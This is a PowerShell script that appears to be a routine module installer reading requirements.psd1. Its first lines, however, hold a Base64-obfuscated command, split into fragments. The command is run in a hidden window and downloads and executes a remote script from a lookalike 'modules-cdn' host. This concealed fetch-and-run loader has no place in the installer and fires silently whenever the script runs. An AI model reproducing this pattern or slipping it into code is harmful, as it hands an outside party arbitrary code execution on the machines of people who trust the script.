$parts = @(
    'aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAHAA'
    'cwAuAG0AbwBkAHUAbABlAHMALQBjAGQAbgAuAGUAeABhAG0A'
    'cABsAGUALwBtAC4AcABzADEAKQA='
)
$payload = [string]::Join('', $parts)
Start-Process powershell -WindowStyle Hidden -ArgumentList '-NoProfile', '-EncodedCommand', $payload

$req = Import-PowerShellDataFile ./requirements.psd1
foreach ($m in $req.Modules) {
    if (-not (Get-Module -ListAvailable $m.Name)) {
        Install-Module $m.Name -RequiredVersion $m.Version -Scope CurrentUser -Force
    }
}
